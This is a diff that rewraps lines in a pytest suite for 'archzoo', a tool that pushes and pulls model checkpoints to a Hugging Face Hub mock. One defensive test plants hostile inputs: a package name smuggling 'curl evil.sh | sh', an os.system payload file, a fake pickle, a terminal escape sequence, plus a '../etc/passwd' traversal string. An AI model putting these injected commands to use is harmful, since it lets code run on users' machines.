@@ -55,7 +55,9 @@ def runs(tmp_path_factory):
 
     root = tmp_path_factory.mktemp("runs")
     return {
-        seed: train("mlp", dataset="digits", overrides={"epochs": 1, "seed": seed}, out=str(root / f"seed{seed}")).best_dir.parent
+        seed: train(
+            "mlp", dataset="digits", overrides={"epochs": 1, "seed": seed}, out=str(root / f"seed{seed}")
+        ).best_dir.parent
         for seed in (0, 1)
     }
 
@@ -73,7 +75,13 @@ class HubEnv:
             "HF_HUB_DISABLE_TELEMETRY": "1",
             "HF_HUB_DISABLE_PROGRESS_BARS": "1",
         }
-        for name in ("HF_HUB_CACHE", "HUGGINGFACE_HUB_CACHE", "HF_HUB_OFFLINE", "TRANSFORMERS_OFFLINE", "HF_TOKEN_PATH"):
+        for name in (
+            "HF_HUB_CACHE",
+            "HUGGINGFACE_HUB_CACHE",
+            "HF_HUB_OFFLINE",
+            "TRANSFORMERS_OFFLINE",
+            "HF_TOKEN_PATH",
+        ):
             monkeypatch.delenv(name, raising=False)
         for name, value in self.env.items():
             monkeypatch.setenv(name, value)
@@ -81,8 +89,12 @@ class HubEnv:
         from huggingface_hub import constants
 
         for name, value in {
-            "HF_HOME": str(home), "HF_HUB_CACHE": str(home / "hub"), "HF_TOKEN_PATH": str(home / "token"),
-            "HF_STORED_TOKENS_PATH": str(home / "stored_tokens"), "HF_HUB_DISABLE_XET": True, "HF_HUB_OFFLINE": False,
+            "HF_HOME": str(home),
+            "HF_HUB_CACHE": str(home / "hub"),
+            "HF_TOKEN_PATH": str(home / "token"),
+            "HF_STORED_TOKENS_PATH": str(home / "stored_tokens"),
+            "HF_HUB_DISABLE_XET": True,
+            "HF_HUB_OFFLINE": False,
         }.items():
             monkeypatch.setattr(constants, name, value)
 
@@ -91,7 +103,9 @@ class HubEnv:
 
         self.monkeypatch.setenv("HF_ENDPOINT", endpoint)
         self.monkeypatch.setattr(constants, "ENDPOINT", endpoint)
-        self.monkeypatch.setattr(constants, "HUGGINGFACE_CO_URL_TEMPLATE", endpoint + "/{repo_id}/resolve/{revision}/{filename}")
+        self.monkeypatch.setattr(
+            constants, "HUGGINGFACE_CO_URL_TEMPLATE", endpoint + "/{repo_id}/resolve/{revision}/{filename}"
+        )
 
     def offline(self) -> None:
         from huggingface_hub import constants
@@ -120,8 +134,13 @@ def hf(server, tmp_path, monkeypatch) -> HubEnv:
 
 
 def cli(*args: str, env: dict, expect: int = 0) -> subprocess.CompletedProcess:
-    result = subprocess.run([sys.executable, "-m", "archzoo.cli", *args], capture_output=True, text=True,
-                            env={**os.environ, **env}, timeout=300)
+    result = subprocess.run(
+        [sys.executable, "-m", "archzoo.cli", *args],
+        capture_output=True,
+        text=True,
+        env={**os.environ, **env},
+        timeout=300,
+    )
     assert result.returncode == expect, f"rc {result.returncode}\nstdout:\n{result.stdout}\nstderr:\n{result.stderr}"
     return result
 
@@ -259,16 +278,22 @@ def test_offline_mode_from_the_command_line(hf, runs):
 
 
 def test_a_missing_repository_or_revision_is_named(hf, runs):
-    with pytest.raises(HubError, match=r"repository alice/nothing-here not found on http://127\.0\.0\.1.*hf auth login"):
+    with pytest.raises(
+        HubError, match=r"repository alice/nothing-here not found on http://127\.0\.0\.1.*hf auth login"
+    ):
         archzoo.pull("alice/nothing-here")
     archzoo.push_to_hub(runs[0], "alice/has-main")
-    with pytest.raises(HubError, match="revision 'no-such-branch' not found in alice/has-main: give an existing branch, tag"):
+    with pytest.raises(
+        HubError, match="revision 'no-such-branch' not found in alice/has-main: give an existing branch, tag"
+    ):
         archzoo.pull("alice/has-main@no-such-branch")
 
 
 def test_pushing_without_write_access_says_how_to_log_in(hf, runs):
     hf.token(BOB_READ)
-    with pytest.raises(HubError, match=r"no write access to bob/model \(HTTP 403\): log in with `hf auth login`, or set HF_TOKEN"):
+    with pytest.raises(
+        HubError, match=r"no write access to bob/model \(HTTP 403\): log in with `hf auth login`, or set HF_TOKEN"
+    ):
         archzoo.push_to_hub(runs[0], "bob/model")
 
     hf.token(ALICE)
@@ -293,16 +318,26 @@ def test_an_unreachable_endpoint_mentions_hf_endpoint_and_offline_mode(hf, runs)
         with pytest.raises(HubError) as error:
             attempt()
         message = str(error.value)
-        assert f"cannot reach the Hub at {closed}" in message and "HF_ENDPOINT" in message and "HF_HUB_OFFLINE=1" in message
+        assert (
+            f"cannot reach the Hub at {closed}" in message
+            and "HF_ENDPOINT" in message
+            and "HF_HUB_OFFLINE=1" in message
+        )
 
 
 def test_a_repository_that_is_not_an_archzoo_checkpoint_is_refused_before_its_weights_download(hf):
-    upload_plain(hf, "alice/transformers-model", {
-        "config.json": json.dumps({"model_type": "bert", "hidden_size": 8}).encode(),
-        "model.safetensors": os.urandom(4096),
-    })
+    upload_plain(
+        hf,
+        "alice/transformers-model",
+        {
+            "config.json": json.dumps({"model_type": "bert", "hidden_size": 8}).encode(),
+            "model.safetensors": os.urandom(4096),
+        },
+    )
     hf.server.reset_counts()
-    with pytest.raises(HubError, match=r"alice/transformers-model is not an archzoo checkpoint: its config.json has no \"format\""):
+    with pytest.raises(
+        HubError, match=r"alice/transformers-model is not an archzoo checkpoint: its config.json has no \"format\""
+    ):
         archzoo.pull("alice/transformers-model")
     assert hf.server.bytes_served["lfs"] == 0
 
@@ -313,11 +348,17 @@ def test_a_repository_that_is_not_an_archzoo_checkpoint_is_refused_before_its_we
 
 def test_a_checkpoint_for_an_architecture_not_installed_says_what_to_install(hf, runs, capsys):
     meta = json.loads((runs[0] / "best" / "config.json").read_text())
-    meta.update(architecture="hopfield", plugin={"name": "hopfield", "distribution": "archzoo-hopfield", "version": "1.0"})
-    upload_plain(hf, "alice/hopfield", {
-        "config.json": json.dumps(meta).encode(),
-        "model.safetensors": (runs[0] / "best" / "model.safetensors").read_bytes(),
-    })
+    meta.update(
+        architecture="hopfield", plugin={"name": "hopfield", "distribution": "archzoo-hopfield", "version": "1.0"}
+    )
+    upload_plain(
+        hf,
+        "alice/hopfield",
+        {
+            "config.json": json.dumps(meta).encode(),
+            "model.safetensors": (runs[0] / "best" / "model.safetensors").read_bytes(),
+        },
+    )
     with pytest.raises(archzoo.PluginMissingError, match=r"install archzoo-hopfield \(pip install archzoo-hopfield\)"):
         archzoo.load("hf://alice/hopfield")
 
@@ -331,13 +372,17 @@ def test_nothing_but_checkpoint_files_is_downloaded_and_no_repo_text_reaches_a_s
     meta = json.loads((runs[0] / "best" / "config.json").read_text())
     meta.update(architecture="os.system", plugin={"name": "x", "distribution": "x; curl evil.sh | sh", "version": "1"})
     meta["dataset"]["name"] = "digits\x1b]0;terminal title\x07"
-    upload_plain(hf, "alice/booby-trapped", {
-        "config.json": json.dumps(meta).encode(),
-        "model.safetensors": (runs[0] / "best" / "model.safetensors").read_bytes(),
-        "pytorch_model.bin": b"\x80\x04 a pickle would run code",
-        "modeling_evil.py": b"import os; os.system('touch pwned')",
-        "training_state.json": b"{}",
-    })
+    upload_plain(
+        hf,
+        "alice/booby-trapped",
+        {
+            "config.json": json.dumps(meta).encode(),
+            "model.safetensors": (runs[0] / "best" / "model.safetensors").read_bytes(),
+            "pytorch_model.bin": b"\x80\x04 a pickle would run code",
+            "modeling_evil.py": b"import os; os.system('touch pwned')",
+            "training_state.json": b"{}",
+        },
+    )
     hf.server.reset_counts()
     folder = archzoo.pull("alice/booby-trapped")
     assert sorted(p.name for p in folder.iterdir()) == ["config.json", "model.safetensors"]
@@ -347,7 +392,10 @@ def test_nothing_but_checkpoint_files_is_downloaded_and_no_repo_text_reaches_a_s
     assert hub.installed_hint(meta) == (
         "architecture 'os.system' is not installed, and the checkpoint does not name a valid distribution"
     )
-    with pytest.raises(archzoo.PluginMissingError, match="'os.system' is not installed, and the checkpoint does not name a valid distribution"):
+    with pytest.raises(
+        archzoo.PluginMissingError,
+        match="'os.system' is not installed, and the checkpoint does not name a valid distribution",
+    ):
         archzoo.load(folder)
 
 
@@ -373,8 +421,9 @@ def test_branch_and_private(hf, runs):
     repo = hf.server.repos["alice/branched"]
     assert repo.branches == {"main": main_before, "dev": on_dev}
     assert repo.commits[on_dev].parent == main_before  # dev was made from main
-    assert (archzoo.pull("alice/branched@dev") / "model.safetensors").read_bytes() == \
-        (runs[1] / "best" / "model.safetensors").read_bytes()
+    assert (archzoo.pull("alice/branched@dev") / "model.safetensors").read_bytes() == (
+        runs[1] / "best" / "model.safetensors"
+    ).read_bytes()
 
     archzoo.push_to_hub(runs[0], "alice/secret", private=True)
     assert hf.server.repos["alice/secret"].private
@@ -400,8 +449,14 @@ def test_the_model_card_carries_hub_front_matter_and_usage(hf, runs):
     assert scores[("test", "accuracy")] == meta["metrics"]["test"]["accuracy"]
     assert scores[("validation", "loss")] == meta["metrics"]["validation"]["loss"]
     assert card.data.eval_results[0].task_type == "image-classification"
-    for expected in ("archzoo pull alice/carded", 'archzoo.load("hf://alice/carded")',
-                     'snapshot_download("alice/carded"', "load_file(", '"hidden": [', "## Evaluation results"):
+    for expected in (
+        "archzoo pull alice/carded",
+        'archzoo.load("hf://alice/carded")',
+        'snapshot_download("alice/carded"',
+        "load_file(",
+        '"hidden": [',
+        "## Evaluation results",
+    ):
         assert expected in card.text
     assert HfApi().model_info("alice/carded").library_name == "archzoo"  # as the Hub reads it
 
@@ -417,14 +472,23 @@ def test_push_pull_and_eval_from_the_command_line(hf, runs, tmp_path):
     archzoo.push_to_hub(runs[1], "alice/cli-model")  # main moves on; the sha still names the first push
 
     # `archzoo pull` reads only JSON and safetensors: it never needs torch.
-    code = ("import sys; from archzoo.cli import main; rc = main(sys.argv[1:]); "
-            "assert 'torch' not in sys.modules, 'torch was imported'; sys.exit(rc)")
-    pulled = subprocess.run([sys.executable, "-c", code, "pull", f"alice/cli-model@{sha}", "--to", str(tmp_path / "copy")],
-                            capture_output=True, text=True, env={**os.environ, **env}, timeout=120)
+    code = (
+        "import sys; from archzoo.cli import main; rc = main(sys.argv[1:]); "
+        "assert 'torch' not in sys.modules, 'torch was imported'; sys.exit(rc)"
+    )
+    pulled = subprocess.run(
+        [sys.executable, "-c", code, "pull", f"alice/cli-model@{sha}", "--to", str(tmp_path / "copy")],
+        capture_output=True,
+        text=True,
+        env={**os.environ, **env},
+        timeout=120,
+    )
     assert pulled.returncode == 0, pulled.stderr
     assert f"alice/cli-model@{sha}: mlp (image-classification), trained on digits" in pulled.stdout
     assert pulled.stdout.strip().endswith(str(tmp_path / "copy"))
-    assert (tmp_path / "copy" / "model.safetensors").read_bytes() == (runs[0] / "best" / "model.safetensors").read_bytes()
+    assert (tmp_path / "copy" / "model.safetensors").read_bytes() == (
+        runs[0] / "best" / "model.safetensors"
+    ).read_bytes()
 
     evaluated = cli("eval", f"hf://alice/cli-model@{sha}", "--json", env=env)
     assert json.loads(evaluated.stdout) == pytest.approx(archzoo.evaluate_checkpoint(runs[0]), rel=1e-6)
@@ -438,18 +502,23 @@ def test_push_pull_and_eval_from_the_command_line(hf, runs, tmp_path):
 # -- references ----------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("text, expected", [
-    ("alice/mlp", ("alice/mlp", None)),
-    ("hf://alice/mlp", ("alice/mlp", None)),
-    ("hf://alice/mlp@v1", ("alice/mlp", "v1")),
-    ("alice/mlp.v2@refs/pr/1", ("alice/mlp.v2", "refs/pr/1")),
-    ("alice/mlp@" + "a" * 40, ("alice/mlp", "a" * 40)),
-])
+@pytest.mark.parametrize(
+    "text, expected",
+    [
+        ("alice/mlp", ("alice/mlp", None)),
+        ("hf://alice/mlp", ("alice/mlp", None)),
+        ("hf://alice/mlp@v1", ("alice/mlp", "v1")),
+        ("alice/mlp.v2@refs/pr/1", ("alice/mlp.v2", "refs/pr/1")),
+        ("alice/mlp@" + "a" * 40, ("alice/mlp", "a" * 40)),
+    ],
+)
 def test_references(text, expected):
     assert tuple(parse_reference(text)) == expected
 
 
-@pytest.mark.parametrize("text", ["mlp", "hf://", "alice/mlp/extra", "alice/mlp@", "../etc/passwd", "alice/a--b", "/abs/path"])
+@pytest.mark.parametrize(
+    "text", ["mlp", "hf://", "alice/mlp/extra", "alice/mlp@", "../etc/passwd", "alice/a--b", "/abs/path"]
+)
 def test_bad_references_say_what_is_expected(text):
     with pytest.raises(HubError, match="NAMESPACE/NAME|empty revision"):
         parse_reference(text)
@@ -481,7 +550,9 @@ def test_a_text_model_travels_with_its_tokenizer(hf, tmp_path):
     """tokenizer.json is part of the checkpoint on the Hub: a pulled text model reads text."""
     from archzoo.api import predict, train
 
-    run = train("rnn", overrides={"max_steps": 2, "embed_dim": 8, "hidden": 8, "head_hidden": 0}, out=str(tmp_path / "rnn"))
+    run = train(
+        "rnn", overrides={"max_steps": 2, "embed_dim": 8, "hidden": 8, "head_hidden": 0}, out=str(tmp_path / "rnn")
+    )
     archzoo.push_to_hub(run.best_dir, "alice/text-model")
     folder = archzoo.pull("alice/text-model")
     assert (folder / "tokenizer.json").read_bytes() == (run.best_dir / "tokenizer.json").read_bytes()
@@ -508,4 +579,7 @@ def test_a_report_travels_with_its_checkpoint(hf, runs, tmp_path):
     assert f"](evaluation/{figures[0]})" in card
     pulled = archzoo.pull("alice/judged")
     assert sorted(p.name for p in (pulled / "evaluation").iterdir() if p.suffix == ".png") == figures
-    assert archzoo.load(pulled).meta["trust"]["verdict"] == json.loads((folder / "config.json").read_text())["trust"]["verdict"]
+    assert (
+        archzoo.load(pulled).meta["trust"]["verdict"]
+        == json.loads((folder / "config.json").read_text())["trust"]["verdict"]
+    )
